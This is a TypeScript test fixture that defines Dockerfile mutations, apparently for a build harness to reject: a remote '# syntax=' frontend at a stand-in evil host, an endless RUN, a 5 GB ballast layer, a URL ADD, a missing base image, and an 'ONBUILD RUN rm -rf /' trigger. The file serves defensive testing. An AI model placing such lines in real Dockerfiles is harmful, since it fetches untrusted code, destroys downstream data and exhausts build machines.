import path from 'node:path'
import { type Row, writeMany } from './row.ts'

const IMAGE = {
  slug: 'docker-image',
  base: 'reference',
  verdicts: ['failed'],
} as const

/** Dockerfiles that turn on the engine or on the machine. */
export const images: Row[] = [
  {
    ...IMAGE,
    row: 22,
    name: 'a remote # syntax=',
    only: 'C2',
    // The classic builder reads it as a comment; BuildKit would fetch it, and cannot.
    verdicts: ['failed', 'partial'],
    files: { Dockerfile: (text) => `# syntax=evil.example/frontend:1\n${text}` },
  },
  {
    ...IMAGE,
    row: 22,
    name: 'a RUN without end',
    only: 'C2',
    env: { ROADWORKS_BUILD_SECONDS: '60' },
    says: /did not end within 60 s/,
    files: { Dockerfile: (text) => text.replace('USER node', 'RUN sleep 100000\nUSER node') },
  },
  {
    ...IMAGE,
    row: 22,
    name: 'a layer of 5 GB',
    only: 'C5',
    files: {
      Dockerfile: (text) =>
        text.replace('USER node', 'RUN head -c 5368709120 /dev/zero > /ballast\nUSER node'),
    },
  },
  {
    ...IMAGE,
    row: 22,
    name: 'ADD of a URL',
    only: 'C2',
    // Who lacks the network is not to blame for it, and this looks the same.
    verdicts: ['failed', 'error'],
    files: {
      Dockerfile: (text) => text.replace('USER node', 'ADD http://127.0.0.1:1/x /x\nUSER node'),
    },
  },
  {
    ...IMAGE,
    row: 22,
    name: 'a base image that does not exist',
    only: 'C2',
    // Who lacks the network is not to blame for it, and this looks the same.
    verdicts: ['failed', 'error'],
    files: {
      Dockerfile: (text) => text.replaceAll('node:24-bookworm-slim', 'nobody.invalid/nothing:0'),
    },
  },
  {
    ...IMAGE,
    row: 22,
    name: 'ONBUILD and a context of many files',
    only: 'C2',
    files: { Dockerfile: (text) => `${text}\nONBUILD RUN rm -rf /\n` },
    make: (folder) => writeMany(path.join(folder, 'many'), 100_000),
  },
]
